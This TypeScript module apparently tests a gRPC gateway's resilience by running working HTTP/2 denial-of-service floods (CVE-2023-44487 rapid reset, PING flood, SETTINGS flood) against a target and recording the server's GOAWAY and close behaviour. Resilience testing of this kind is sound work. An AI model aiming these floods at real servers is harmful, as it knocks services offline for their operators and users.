import { setImmediate as nextTurn } from "node:timers/promises";
import {
  ErrorCode,
  errorCodeName,
  FrameType,
  headersFrame,
  pingFrame,
  rstStreamFrame,
  SettingId,
  settingsFrame,
} from "./frames.js";
import { grpcRequestHeaderBlock } from "./hpack.js";
import { RawH2Connection, type ServerEnd, type Target } from "./raw-h2-connection.js";

/** Attacks of many frames on one HTTP/2 connection, and what the server did about each. */

export const GENERATE_PATH = "/weaver.gateway.v1.GatewayService/Generate";

/** What one flooding connection got from the server. */
export interface FloodOutcome {
  attack: "rapid-reset" | "ping-flood" | "settings-flood";
  /** Frames the attack meant to send. */
  planned: number;
  /** Frames written in all (the attacker stops once it sees a GOAWAY or the connection end). */
  framesSent: number;
  /** The first GOAWAY; `code` is the last one's, when the server sent more than one. */
  goaway?: {
    code: number;
    codeName: string;
    codes: number[];
    lastStreamId: number;
    afterMs: number;
    framesSentBefore: number;
  };
  /** How the server ended the connection, if it did within the settle time. */
  serverEnd?: ServerEnd;
  /** Since the connection opened, when it closed; undefined if still open when the attacker gave up. */
  closedAfterMs?: number;
  /** Frames received from the server, by type name (PING acks, SETTINGS acks, HEADERS, RST_STREAM...). */
  received: Record<string, number>;
  /** Time spent writing the flood. */
  sendMs: number;
}

export interface FloodOptions {
  /** After the last frame, how long to wait for the server to end the connection. Default 2 s. */
  settleMs?: number;
}

export interface ControlFloodOptions extends FloodOptions {
  /** Frames to send. Default 50,000. */
  frames?: number;
  /** Frames per write. Default 1,000. */
  batch?: number;
  /**
   * Read (and count) the ACKs while flooding. Default false: the server's answers then pile up in
   * its own queue, which is the attack; true shows the GOAWAY a server sends before it closes.
   */
  read?: boolean;
}

/**
 * CVE-2023-44487: open a stream with HEADERS and cancel it at once with RST_STREAM, `pairs` times,
 * as fast as the socket takes them. Each stream reaches the server's handler and costs it work;
 * the attacker never has more than one stream open, so MAX_CONCURRENT_STREAMS does not stop it.
 */
export async function rapidReset(
  target: Target,
  { pairs = 10_000, batch = 100, settleMs = 2_000 }: FloodOptions & { pairs?: number; batch?: number } = {},
): Promise<FloodOutcome> {
  const connection = await RawH2Connection.open(target);
  const block = grpcRequestHeaderBlock(`${target.host}:${target.port}`, GENERATE_PATH);
  const started = performance.now();
  for (let sent = 0; sent < pairs && !connection.cutOff; sent += batch) {
    const frames: Buffer[] = [];
    for (let i = sent; i < Math.min(pairs, sent + batch); i++) {
      const streamId = 2 * i + 1;
      frames.push(headersFrame(streamId, block), rstStreamFrame(streamId, ErrorCode.CANCEL));
    }
    await connection.write(Buffer.concat(frames), frames.length);
    // One turn of the event loop, so a GOAWAY that arrived is seen before the next batch.
    await nextTurn();
  }
  return finish(connection, "rapid-reset", pairs * 2, started, settleMs);
}

/**
 * PINGs as fast as possible while reading nothing: each one asks for an ACK the attacker never
 * takes, so the server's output queue grows unless it cuts the connection.
 */
export async function pingFlood(target: Target, options: ControlFloodOptions = {}): Promise<FloodOutcome> {
  return controlFlood(target, "ping-flood", options, (n) => pingFrame(n));
}

/** SETTINGS frames as fast as possible while reading nothing: each one asks for an ACK too. */
export async function settingsFlood(
  target: Target,
  options: ControlFloodOptions = {},
): Promise<FloodOutcome> {
  return controlFlood(target, "settings-flood", options, (n) =>
    settingsFrame([
      [SettingId.INITIAL_WINDOW_SIZE, 65_535 + (n % 2)],
      [SettingId.MAX_CONCURRENT_STREAMS, 100 + (n % 2)],
    ]),
  );
}

async function controlFlood(
  target: Target,
  attack: FloodOutcome["attack"],
  { frames: total = 50_000, batch = 1_000, settleMs = 2_000, read = false }: ControlFloodOptions,
  build: (n: number) => Buffer,
): Promise<FloodOutcome> {
  const connection = await RawH2Connection.open(target);
  if (!read) connection.pauseReading();
  const started = performance.now();
  for (let sent = 0; sent < total && !connection.cutOff; sent += batch) {
    const frames: Buffer[] = [];
    for (let n = sent; n < Math.min(total, sent + batch); n++) frames.push(build(n));
    await connection.write(Buffer.concat(frames), frames.length);
    await nextTurn();
  }
  // Read now what the server sent meanwhile: its ACKs, and a GOAWAY if it gave up on the attacker.
  connection.resumeReading();
  return finish(connection, attack, total, started, settleMs);
}

async function finish(
  connection: RawH2Connection,
  attack: FloodOutcome["attack"],
  planned: number,
  started: number,
  settleMs: number,
): Promise<FloodOutcome> {
  const sendMs = performance.now() - started;
  await connection.serverEnded(settleMs);
  connection.destroy();
  const { goaway } = connection;
  const received = Object.fromEntries(
    [...connection.received].map(([type, n]) => [frameTypeName(type), n] as const),
  );
  return {
    attack,
    planned,
    framesSent: connection.framesSent,
    ...(goaway && {
      goaway: {
        code: connection.goawayCodes.at(-1) ?? goaway.code,
        codeName: errorCodeName(connection.goawayCodes.at(-1) ?? goaway.code),
        codes: connection.goawayCodes,
        lastStreamId: goaway.lastStreamId,
        afterMs: goaway.atMs,
        framesSentBefore: goaway.framesSentBefore,
      },
    }),
    ...(connection.serverEnd && { serverEnd: connection.serverEnd }),
    ...(connection.serverEnd !== undefined && { closedAfterMs: connection.closedAtMs }),
    received,
    sendMs,
  };
}

function frameTypeName(type: number): string {
  return Object.entries(FrameType).find(([, value]) => value === type)?.[0] ?? `0x${type.toString(16)}`;
}
